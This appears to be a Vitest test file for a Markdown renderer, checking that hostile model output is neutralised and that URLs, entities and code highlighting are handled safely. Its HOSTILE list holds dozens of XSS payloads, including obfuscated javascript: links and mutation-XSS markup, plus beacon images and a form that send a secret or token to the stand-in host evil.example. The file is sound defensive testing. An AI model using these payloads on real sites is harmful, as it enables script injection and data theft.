// Hostile output: the page runs nothing, fetches nothing and navigates nowhere, whatever a model writes.

import { describe, expect, test } from "vitest";
import { render } from "preact";
import { safeAddress } from "../src/text/safe-url.ts";
import { decodeEntities } from "../src/text/entities.ts";
import { MAX_MARKDOWN, nodesOf } from "../src/text/nodes.tsx";
import { highlightLines, languageOf, linesOf, MAX_CODE, stretchesOf } from "../src/text/highlight.ts";

function drawn(text: string, definitions: readonly string[] = []): HTMLElement {
  const container = document.createElement("div");
  render(nodesOf(text, definitions), container);
  return container;
}

const ALLOWED = new Set(
  "P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A DIV TABLE THEAD TBODY TR TH TD H3 H4 H5 H6 FIGURE FIGCAPTION SPAN BUTTON svg path".split(" "),
);

/** Everything active: other elements, handlers, styles, URLs outside the web. */
function dangers(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll("*")) {
    if (!ALLOWED.has(element.nodeName)) found.push(element.nodeName);
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || ["style", "src", "srcset", "id", "name", "srcdoc", "action", "formaction", "background", "data", "poster", "xlink:href"].includes(name)) found.push(name);
      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(value);
    }
  }
  return found;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><animate onbegin=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.example'></object><embed src='https://evil.example'>",
  "<a href='javascript:alert(1)'>click</a>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](\u0001javascript:alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/x)",
  "[click](/v1/control)",
  "[click][x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![beacon](https://evil.example/pixel.png?secret=1)",
  "![beacon][x]\n\n[x]: https://evil.example/pixel.png",
  "![](//evil.example/pixel.png)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  '![x" onerror="alert(1)](https://evil.example)',
  '[x](https://evil.example "t\\" onmouseover=\\"alert(1)")',
  "<form action='https://evil.example'><input name=token><button>go</button></form>",
  "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example'</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<p style='background:url(https://evil.example)'>x</p>",
  "<div id=app name=token class=dialog>clobbered</div>",
  "<details open ontoggle=alert(1)>",
  "<video poster='https://evil.example'><source src='https://evil.example'></video>",
  "```js\" onclick=\"alert(1)\nx\n```",
  "```<img/src/onerror=alert(1)>\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> | a |\n|---|---|\n| <script>x</script> | [b](javascript:x) |",
  "- <script>alert(1)</script>\n- [ ] <img src=x>",
  "> <script>alert(1)</script>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "</div></div><script>alert(1)</script>",
];

describe("hostile output", () => {
  test.each(HOSTILE)("%s", (text) => {
    const container = drawn(text);
    expect(dangers(container)).toEqual([]);
    // Also as a part of another text.
    expect(dangers(drawn(`# A title\n\ntext before ${text} and after\n\n1. ${text}`))).toEqual([]);
  });

  test("HTML is shown as text", () => {
    expect(drawn("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
    expect(drawn("a <b>bold</b> word").textContent?.trim()).toBe("a <b>bold</b> word");
  });

  test("an image is a link and is not loaded", () => {
    const container = drawn("![a chart](https://elsewhere.example/chart.png)");
    const [link] = container.querySelectorAll("a");
    expect(container.querySelector("img")).toBeNull();
    expect([link?.textContent, link?.getAttribute("href")]).toEqual(["a chart", "https://elsewhere.example/chart.png"]);
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  test("definitions cannot inject anything", () => {
    expect(dangers(drawn("see [x] and ![y][x]", ["[x]: javascript:alert(1)", "[x]: <img src=x onerror=alert(1)>"]))).toEqual([]);
    expect(drawn("see [x]", ["[x]: https://example.org/"]).querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
  });

  test("huge and deeply nested input is shown quickly as plain text", () => {
    const huge = "**word** ".repeat(MAX_MARKDOWN);
    expect(drawn(huge).querySelectorAll("strong")).toHaveLength(0);
    expect(drawn(huge).textContent).toBe(huge);
    for (const text of [">".repeat(20_000), "- ".repeat(20_000), "[".repeat(20_000), "*a_ ".repeat(10_000), "`".repeat(30_001), "((".repeat(20_000), "![".repeat(15_000), "<".repeat(50_000), "\\".repeat(50_000), "|".repeat(20_000) + "\n" + "|-".repeat(10_000)]) {
      // Exponential input would exceed the time limit of the test.
      expect(dangers(drawn(text))).toEqual([]);
    }
  });
});

test("character references", () => {
  expect(drawn("&copy; &lt;b&gt; &#65;&#x42; &unknown; &#0; `&lt;`").textContent).toBe("© <b> AB &unknown; \ufffd &lt;");
  expect(decodeEntities("&constructor; &__proto__;")).toBe("&constructor; &__proto__;");
});

describe("addresses", () => {
  test.each([
    ["https://example.org/a?b#c", "https://example.org/a?b#c"],
    ["HTTP://example.org", "http://example.org/"],
    ["mailto:a@example.org", "mailto:a@example.org"],
    [" \thttps://example.org ", "https://example.org/"],
    ["javascript:alert(1)", ""],
    ["https:", ""],
    ["ftp://example.org", ""],
    ["/relative", ""],
    ["#here", ""],
    ["", ""],
  ])("%j", (given, safe) => expect(safeAddress(given)).toBe(safe));
});

test("ordinary Markdown is rendered", () => {
  const container = drawn("# T\n\n- a\n- **b** `c` ~~d~~\n\n1. x\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n- [x] done\n\nhttps://example.org/");
  expect(container.querySelector(".title-1")?.textContent).toBe("T");
  expect(container.querySelectorAll("li")).toHaveLength(4);
  expect(container.querySelector("td.right")?.textContent).toBe("2");
  expect(container.querySelector("del")?.textContent).toBe("d");
  expect(container.textContent).toContain("☑ done");
  expect(container.querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
  expect(drawn("7. seven").querySelector("ol")?.getAttribute("start")).toBe("7");
});

describe("colours", () => {
  test("are tokens, line by line, and their text is the code", async () => {
    const code = 'def f(a):\n    """Doc\n    <b>&amp;"""\n    return "x" < 1 & 2\n';
    const lines = await highlightLines(code, "py");
    expect(lines?.map((line) => line.map((token) => token.text).join("")).join("\n")).toBe(code);
    expect(lines?.[0]?.[0]).toEqual({ text: "def", kind: "hljs-keyword" });
    expect(lines?.[2]?.every((token) => token.kind === "hljs-string")).toBe(true);
  });

  test("long code and unknown languages stay plain", async () => {
    expect(await highlightLines("x".repeat(MAX_CODE + 1), "python")).toBeNull();
    expect(await highlightLines("x", "brainfuck")).toBeNull();
    expect(await highlightLines("x", "")).toBeNull();
    expect(await highlightLines("x", "__proto__")).toBeNull();
    expect(await highlightLines("x", "constructor")).toBeNull();
  });

  test("only the spans of highlight.js are treated as tags", () => {
    expect(linesOf("a<b>&copy;</b>")).toEqual([[{ text: "a<b>&copy;</b>", kind: "" }]]);
  });

  test("languages are detected by file names", () => {
    expect(["a/b.py", "Dockerfile", "x.tsx", "noending", "a.unknown"].map(languageOf)).toEqual(["python", "dockerfile", "typescript", "", ""]);
  });

  test("long code is highlighted in steps without losing or changing a line", async () => {
    const code = Array.from({ length: 300 }, (_, at) => `def part_${at}(x):\n    """Doc\n\n    more"""\n    return x\n\n`).join("");
    const stretches = stretchesOf(code);
    expect(stretches.length).toBeGreaterThan(2);
    expect(stretches.join("\n")).toBe(code);
    for (const stretch of stretches) expect(stretch.startsWith("def part_")).toBe(true);
    const lines = await highlightLines(code, "python");
    expect(lines?.map((line) => line.map((token) => token.text).join("")).join("\n")).toBe(code);
    expect(lines?.filter((line) => line[0]?.text === "def" && line[0].kind === "hljs-keyword")).toHaveLength(300);
    expect(stretchesOf("x".repeat(20_000))).toHaveLength(1);
  });
});
